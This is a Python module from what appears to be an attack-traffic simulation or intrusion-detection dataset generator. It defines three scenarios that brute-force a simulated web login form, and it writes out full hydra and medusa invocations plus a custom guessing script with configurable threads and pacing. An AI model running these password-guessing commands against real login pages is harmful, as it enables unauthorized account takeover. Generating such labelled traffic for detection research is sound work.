"""Password guessing on the web server's login form with hydra, medusa and our own script."""

from ..scenario import scenario
from . import word_lists
from .aim import (
    LOGIN_DENIED,
    LOGIN_PASSWORD_FIELD,
    LOGIN_PATH,
    LOGIN_USER_FIELD,
    bracketed,
    choose_address,
    is_six,
    planned_target,
)
from .connection_limit import limited_connections


def _plan(rng, world, words, share6=0.0):
    count = rng.randint(*words)
    seed = rng.randrange(1 << 30)
    return {
        "seconds": 45,
        "address": choose_address(rng, world.web, share6),
        "port": world.web.port,
        "users": word_lists.users(seed, rng.choice((1, 1, 2)), world.web.accounts),
        "words": count,
        "words_seed": seed,
        "true_word_at": rng.randrange(count * 3 // 4, count) if rng.random() < 0.4 else None,
        "tasks": rng.randint(1, 6),
    }


def _words(ctx, parameters):
    names = parameters["users"]
    true_password = word_lists.password_of(names[0], ctx.world.web.accounts)
    true_at = None if parameters["true_word_at"] is None else parameters["true_word_at"] // len(names)
    return word_lists.passwords(parameters["words_seed"], max(1, parameters["words"] // len(names)), true_password, true_at)


def _files(ctx, parameters):
    return (
        word_lists.write(ctx.folder, "users.txt", parameters["users"]),
        word_lists.write(ctx.folder, "passwords.txt", _words(ctx, parameters)),
    )


@scenario(
    "web-bruteforce-hydra", "Brute Force -Web", "hydra", "attacker",
    lambda rng, world: {**_plan(rng, world, (28, 50), share6=0.15), "pause": 0 if rng.random() < 0.7 else 1}, planned_target,
)
def web_hydra(ctx, parameters):
    users, words = _files(ctx, parameters)
    form = f"{LOGIN_PATH}:{LOGIN_USER_FIELD}=^USER^&{LOGIN_PASSWORD_FIELD}=^PASS^:F={LOGIN_DENIED}"
    with limited_connections(ctx, 20, 20, most=80):
        done = ctx.exec(
            ["hydra", "-I", "-q", "-L", users, "-P", words, "-t", parameters["tasks"], "-W", parameters["pause"], "-w", 10]
            + (["-6"] if is_six(parameters["address"]) else [])
            + ["-s", parameters["port"], bracketed(parameters["address"]), "http-post-form", form]
        )
    ctx.note("found", done.stdout.count(" password: "))


@scenario(
    "web-bruteforce-medusa", "Brute Force -Web", "medusa", "attacker", lambda rng, world: _plan(rng, world, (28, 50)), planned_target,
    held_out=True,
)
def web_medusa(ctx, parameters):
    users, words = _files(ctx, parameters)
    done = ctx.exec(
        ["medusa", "-b", "-h", parameters["address"], "-n", parameters["port"], "-U", users, "-P", words, "-M", "web-form"]
        + ["-m", f"FORM:{LOGIN_PATH.lstrip('/')}", "-m", f"DENY-SIGNAL:{LOGIN_DENIED}"]
        + ["-m", f"FORM-DATA:post?{LOGIN_USER_FIELD}=&{LOGIN_PASSWORD_FIELD}=", "-t", parameters["tasks"]]
    )
    ctx.note("found", done.stdout.count("ACCOUNT FOUND"))


@scenario(
    "web-bruteforce-script", "Brute Force -Web", "own script guess_form.py", "attacker",
    lambda rng, world: {
        **_plan(rng, world, (40, 80), share6=0.15),
        "per_connection": rng.choice((1, 1, 2, 3)),
        "pause_ms": rng.choice((0, 50, 150, 400)),
        "agent_seed": rng.randrange(1 << 30),
    },
    planned_target,
)
def web_script(ctx, parameters):
    users, words = _files(ctx, parameters)
    done = ctx.script(
        "guess_form.py", parameters["address"], parameters["port"], "--path", LOGIN_PATH, "--users", users, "--passwords", words,
        "--user-field", LOGIN_USER_FIELD, "--password-field", LOGIN_PASSWORD_FIELD, "--denied", LOGIN_DENIED,
        "--tasks", parameters["tasks"], "--per-connection", parameters["per_connection"], "--pause-ms", parameters["pause_ms"],
        "--seed", parameters["agent_seed"], "--most", 120,
    )
    ctx.note("found", done.stdout.count("found "))
